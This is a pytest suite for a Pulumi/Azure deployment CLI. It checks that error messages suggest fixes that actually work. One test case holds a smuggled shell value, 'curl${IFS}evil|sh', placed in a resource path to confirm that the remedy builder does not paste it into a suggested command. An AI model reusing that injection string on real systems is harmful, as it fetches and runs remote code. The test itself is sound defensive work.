"""What a new user gets wrong first: the message alone has to be enough to mend it."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from automation import cli as command
from automation.commands import next_steps
from automation.deployment import placeholders
from automation.deployment.engine import ENGINE_VARIABLE
from graph.urns import name_of
from settings.stand_ins import STAND_INS
from tests.conftest import PROGRAM, RUN_IN, ask_no_rules

Run = Callable[..., Result]
FILE = "Pulumi.dev.yaml"


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The project as it is cloned."""
    for name in ("__main__.py", "Pulumi.yaml", FILE):
        shutil.copy(PROGRAM / name, tmp_path)
    monkeypatch.setattr(command, "PROGRAM", tmp_path)
    return tmp_path


@pytest.fixture(params=["offline", "pulumi"])
def engine(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """What deploys into the modelled Azure: a user is told the same by both."""
    if request.param == "pulumi":
        request.getfixturevalue("pulumi")
    monkeypatch.setenv(ENGINE_VARIABLE, request.param)
    return str(request.param)


on_both_engines = pytest.mark.usefixtures("engine")


@pytest.fixture
def small(project: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The project with a program of four resources."""
    (project / "__main__.py").write_text(
        "from tests.automation.network import network\n\nnetwork()\n", encoding="utf-8"
    )
    ask_no_rules(monkeypatch)
    return project


def edited(project: Path, old: str, new: str) -> int:
    """Change the first place in the stack file; the line of it."""
    text = (project / FILE).read_text(encoding="utf-8")
    assert old in text
    (project / FILE).write_text(text.replace(old, new, 1), encoding="utf-8")
    return text[: text.index(old)].count("\n") + 1


def run(*arguments: str) -> Result:
    result = CliRunner().invoke(command.app, [*arguments, "--stack", "dev"])
    assert isinstance(result.exception, SystemExit | None), result.exception
    assert "mistake of the program" not in result.stderr, result.stderr
    return result


def example(text: str) -> str:
    """The value that the message proposes."""
    found = re.search(r"example: +(.*)", text)
    assert found
    return found[1]


@on_both_engines
@pytest.mark.parametrize("command_line", [("rehearse",), ("preview", "--offline"), ("explain",)])
def test_the_next_step_checks_what_was_wrong_and_not_what_a_rehearsal_fills_in(
    project: Path, command_line: tuple[str, ...]
) -> None:
    edited(project, "address_space: 10.2", "address_space: 10.1")
    first = run(*command_line)
    step = first.stderr.rpartition("then check again: ")[2].split()
    assert step[:3] == next_steps.COMMAND.split()

    check = run(step[3], *step[6:])
    assert check.exit_code == 2
    assert "1 problem in the settings" in check.stderr
    assert "overlaps clusters.site.address_space" in check.stderr


@pytest.mark.usefixtures("project")
def test_a_check_without_the_tenants_values_says_how_to_check_the_rest() -> None:
    result = run("check")
    assert result.exit_code == 2
    step = result.stderr.rpartition("Next: ")[2]
    assert step.startswith("fill these in; ")
    assert run("check", step.split()[-1]).exit_code == 0


@pytest.mark.parametrize("options", [(), ("--rehearsal",)])
def test_an_empty_value_of_the_tenant_is_to_be_mended_or_left_out(project: Path, options: tuple[str, ...]) -> None:
    edited(project, "  edge-stamps:settings:\n", '  edge-stamps:settings:\n    tenant_id: ""\n')
    step = run("check", *options).stderr.rpartition("Next: ")[2]
    assert step.startswith("mend these, or take your tenant's values out of the file and check the rest: ")
    edited(project, '    tenant_id: ""\n', "")
    assert run("check", step.split()[-1]).exit_code == 0


@pytest.mark.parametrize("command_line", ["check", "rehearse", "preview"])
def test_a_stack_without_a_file_is_answered_with_one_that_has_one(project: Path, command_line: str) -> None:
    result = CliRunner().invoke(command.app, [command_line, "--stack", "nosuch"])
    assert project and result.exit_code == 2
    assert f"Next: name a stack that has a file, as in {next_steps.command(command_line, 'dev')}\n" in result.stderr


def test_a_misspelt_key_is_mended_by_what_the_message_proposes(project: Path) -> None:
    line = edited(project, "address_space: 10.1", "adress_space: 10.1")
    result = run("check", "--rehearsal")
    assert result.exit_code == 2
    assert f"  clusters.site.adress_space ({FILE}:{line})\n    given:    adress_space\n" in result.stderr
    assert "expected: a known key; the nearest is address_space\n" in result.stderr
    key = example(result.stderr).partition(":")[0]
    edited(project, "adress_space", key)
    assert run("check", "--rehearsal").exit_code == 0


@on_both_engines
def test_a_region_without_aio_is_mended_by_the_region_that_the_message_proposes(project: Path) -> None:
    line = edited(project, "eastus2", "francecentral")
    result = run("rehearse", "--without-messages")
    assert result.exit_code == 2
    assert f"  location ({FILE}:{line})\n    given:    francecentral\n" in result.stderr
    assert "the nearest region that has it is westeurope" in result.stderr
    edited(project, "francecentral", example(result.stderr))
    assert run("check", "--rehearsal").exit_code == 0


@on_both_engines
def test_overlapping_networks_are_mended_by_the_network_that_the_message_proposes(project: Path) -> None:
    line = edited(project, "10.2.0.0/16", "10.1.128.0/17")
    result = run("rehearse", "--without-messages")
    assert result.exit_code == 2
    assert f"  clusters.enterprise.address_space ({FILE}:{line})\n    given:    10.1.128.0/17\n" in result.stderr
    assert "it overlaps clusters.site.address_space (10.1.0.0/16)\n" in result.stderr
    edited(project, "10.1.128.0/17", example(result.stderr))
    assert run("check", "--rehearsal").exit_code == 0


def test_a_lock_that_somebody_left_is_mended_by_the_command_that_the_message_names(small: Path, engine: str) -> None:
    assert run("up", "--offline").exit_code == 0
    kept = small / ".rehearsal"
    backend = kept / ".pulumi/dev/backend/.pulumi/locks/organization/edge-stamps/dev"
    locks = kept / "dev" / "locks" if engine == "offline" else backend
    left = {"pid": 4321, "username": "alice", "hostname": "laptop", "timestamp": "2026-11-24T15:04:05Z"}
    locks.mkdir(parents=True, exist_ok=True)
    (locks / "left.json").write_text(json.dumps(left), encoding="utf-8")
    result = run("up", "--offline")
    assert result.exit_code == 1
    assert "Stack dev is locked by another run:\n  alice@laptop, process 4321, since " in result.stderr
    step = result.stderr.rpartition("Once you are sure that it has: ")[2].strip()
    assert step.startswith("rm ")
    subprocess.run(["sh", "-c", step], cwd=small, check=True)
    assert not list(locks.glob("*.json"))
    assert run("up", "--offline").exit_code == 0


@on_both_engines
@pytest.mark.usefixtures("small")
def test_what_azure_refuses_is_told_with_its_next_step_and_the_next_up_goes_on() -> None:
    refused = run("up", "--offline", "--fault", "nsg:create:bad-request")
    assert refused.exit_code == 1
    assert "FAILED nsg" in refused.stdout
    assert 'Code="BadRequest"' in refused.stdout
    assert "Correct the settings in question and check them" in refused.stdout
    again = run("up", "--offline", "--json")
    assert again.exit_code == 0
    assert [name_of(urn) for urn, what in json.loads(again.stdout)["changes"].items() if what == "create"] == ["nsg"]


def test_of_a_real_stack_the_lock_is_taken_away_by_the_cli() -> None:
    step = next_steps.when_locked("dev", [], offline=False)
    assert "Once you are sure that it has: pulumi cancel --stack dev, then the same command again" in step


def fill_in(project: Path) -> None:
    """The tenant's values, as a user does it."""
    text = (project / FILE).read_text(encoding="utf-8")
    for key, value in STAND_INS.items():
        text = re.sub(rf"# {key}:.*", f"{key}: {value}", text)
    (project / FILE).write_text(text, encoding="utf-8")


@pytest.fixture
def with_tools(project: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[str], None]:
    """The tenant's values are there, and of all tools only a `pulumi` that says this."""
    fill_in(project)
    folder = project / "bin"
    folder.mkdir()
    monkeypatch.setenv("PATH", str(folder))

    def says(script: str) -> None:
        file = folder / "pulumi"
        file.write_text(f'#!/bin/sh\n[ "$1" = version ] && echo v3.260.0 && exit\n{script}\n', encoding="utf-8")
        file.chmod(0o755)

    return says


def test_without_a_login_to_a_backend_the_message_says_how_to_log_in(with_tools: Callable[[str], None]) -> None:
    with_tools(
        'echo "error: PULUMI_ACCESS_TOKEN must be set for login during non-interactive CLI sessions" >&2; exit 1'
    )
    result = run("preview")
    assert result.exit_code == 1
    assert "Next: Log in to where the state is kept: `pulumi login`" in result.stderr
    assert "<stack>" not in result.stderr


def test_without_a_login_in_azure_the_message_says_how_to_log_in() -> None:
    text = "ERROR: Please run 'az login' to setup account."
    step = next_steps.when_failed(text, "dev", offline=False)
    assert step.startswith("Log in (`az login`)")
    assert f"{next_steps.command('doctor', 'dev')}` checks whether it is enough" in step


@pytest.mark.usefixtures("pulumi")
def test_the_real_cli_without_a_login_is_told_the_same(project: Path) -> None:
    fill_in(project)
    clean = {name: value for name, value in os.environ.items() if not name.startswith("PULUMI_")}
    done = subprocess.run(
        [sys.executable, "-c", RUN_IN, str(project), "preview", "--stack", "dev"],
        cwd=PROGRAM, env={**clean, "PULUMI_HOME": str(project / "home")}, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == 1, done.stderr
    assert "Next: Log in to where the state is kept: `pulumi login`" in done.stderr


@pytest.mark.parametrize(
    ("remedy", "message", "expected"),
    [
        ("az vm start -g <group> -n <vm>", "/subscriptions/s/resourceGroups/rg-a/providers/x/virtualMachines/vm-0 off",
         "az vm start -g rg-a -n vm-0"),
        ("az vm start -g <group> -n <vm>", "/resourceGroups/rg-a;curl${IFS}evil|sh/virtualMachines/`x`",
         "az vm start -g <group> -n <vm>"),
        ("az resource delete --ids <id> -g <group>", "/subscriptions/s/resourceGroups/rg-a/providers/x",
         "az resource delete --ids <id> -g <group>"),
        ("az keyvault purge -n <vault> -g <group>", "/subscriptions/s/resourceGroups/rg-a/providers/x",
         "az keyvault purge -n <vault> -g <group>"),
        ("az provider register --namespace <namespace>", "not registered to use namespace 'Microsoft.IoTOperations'",
         "az provider register --namespace Microsoft.IoTOperations"),
        ("pulumi up --replace '<urn>' --stack <stack>", "", "pulumi up --replace 'urn:a' --stack dev"),
        ("az lock delete --ids <id>", "nothing of it", "az lock delete --ids <id>"),
    ],
)  # fmt: skip
def test_a_remedy_has_the_names_that_the_message_has_and_loses_nothing(
    remedy: str, message: str, expected: str
) -> None:
    assert placeholders.fill_in(remedy, message=message, urn="urn:a", stack="dev") == expected


@pytest.mark.usefixtures("project")
@pytest.mark.parametrize("arguments", [["certificates"], ["preview"], ["verify"]], ids=lambda one: one[0])
def test_without_a_tenant_the_modelled_azure_is_offered(arguments: list[str]) -> None:
    told = run(*arguments)
    assert told.exit_code == 2
    assert f"in a modelled Azure: {next_steps.COMMAND} {arguments[0]} --stack dev --offline\n" in told.output


def test_a_mistake_that_a_model_has_too_does_not_offer_it(project: Path) -> None:
    edited(project, "prefix:", "prefx:")
    assert "in a modelled Azure" not in run("certificates").output
